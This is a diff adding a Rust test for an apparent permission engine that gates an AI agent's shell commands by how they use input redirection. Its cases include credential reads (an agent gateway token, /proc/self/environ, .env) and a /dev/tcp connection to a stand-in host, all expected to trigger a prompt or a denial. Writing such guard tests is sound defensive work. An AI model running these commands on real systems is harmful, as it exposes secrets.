@@ -515,6 +515,61 @@ fn what_a_program_reads_from_a_pipe_is_no_file() {
 }
 
 #[test]
+fn a_file_that_is_redirected_to_a_reader_is_as_its_operand() {
+    let rules =
+        RULES.replace("'cd',", "'cd', 'wc', 'grep', 'jq', 'head', 'cat', 'xargs', 'tee', 'sh', 'uniq', 'tar xf',");
+    all(
+        &rules,
+        Allow,
+        &[
+            "wc -l < x", "wc -l <x 2>&1 | sort", "sort -u < /work/x", "cd sub && grep -c a < ../x",
+            "timeout 5 head -3 < 'a b'", "jq .a < x.json > /dev/null", "n=$(wc -l < x); npm test", "LC_ALL=C sort < x",
+        ],
+    );
+    // Each is asked as with the file as an operand, or as without one.
+    all(
+        &rules,
+        AskUser,
+        &[
+            "cat < ~/.claude/dm-plz/gateway.token",
+            "sort < \"$HOME/.claude/dm-plz/gateway.token\"",
+            "jq < ~/.claude/dm-plz/config.toml",
+            "cd ~/.claude/dm-plz && grep a < gateway.token",
+            "cat < /proc/self/environ",
+            "sort < $x",
+            "sort < *",
+            "sort < x > y",
+            "sort -o y < x",
+            "sort --compress-program=x < y",
+            "uniq a < x",
+            "sort --files0-from=- < x",
+            "wc --files0-from=- < x",
+            "jq -f - < x",
+            "cat < /dev/tcp/evil.example/80",
+            "npm test < x",
+            "make test < x",
+            "sh < x",
+            "xargs < x",
+            "tee y < x",
+            "diff x < y",
+            "PATH=. sort < x",
+            "./sort < x",
+            "wc -l <> x",
+            "tar xf a.tar -C v && sort < v/x",
+        ],
+    );
+    let guards = |decision: &str| {
+        format!("{rules}[[rule]]\ntoolName = '*'\npaths = '.env'\ndecision = '{decision}'\npriority = 900\n")
+    };
+    all(&guards("deny"), Decision::Deny, &["sort < .env", "cat <sub/.env"]);
+    all(&guards("ask_user"), AskUser, &["sort < .env", "cat <sub/.env"]);
+    all(&guards("deny"), Allow, &["sort < x"]);
+    let whole = "[[rule]]\ntoolName = 'Bash'\ncommandRegex = 'wc -l$'\ndecision = 'allow'\npriority = 100\n";
+    all(whole, Allow, &["wc -l"]);
+    all(whole, AskUser, &["wc -l < x", "wc -l x"]);
+}
+
+#[test]
 fn a_module_of_python_is_stopped_by_its_name_and_allowed_by_that_of_python() {
     let rule = |decision: &str, prefix: &str| {
         format!("[[rule]]\ntoolName = 'Bash'\ndecision = '{decision}'\npriority = 100\ncommandPrefix = '{prefix}'\n")
